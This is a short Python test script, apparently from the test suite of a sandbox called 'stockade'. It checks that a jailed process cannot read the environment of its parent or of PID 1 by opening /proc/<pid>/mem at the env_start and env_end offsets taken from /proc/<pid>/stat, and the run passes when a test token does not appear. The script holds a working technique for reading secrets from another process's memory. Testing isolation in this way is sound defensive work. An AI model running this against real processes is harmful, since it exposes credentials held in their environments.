# Attack: read our parent's memory through /proc/<ppid>/mem (in the jail the parent is
# stockade's init, a fork of the host-side stockade whose environment holds
# STOCKADE_TEST_SECRET), and /proc/1/mem.
# Evidence: the token must not appear. Control: run under a parent carrying the token, it does.
import os
for pid in dict.fromkeys([os.getppid(), 1]):
    try:
        f = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()
        start, end = int(f[47]), int(f[48])  # fields 50, 51: env_start, env_end
        with open(f"/proc/{pid}/mem", "rb") as m:
            m.seek(start)
            print("MEM", pid, m.read(max(end - start, 0)).decode(errors="replace"))
    except (OSError, ValueError, IndexError) as e:
        print("DENIED", pid, e)
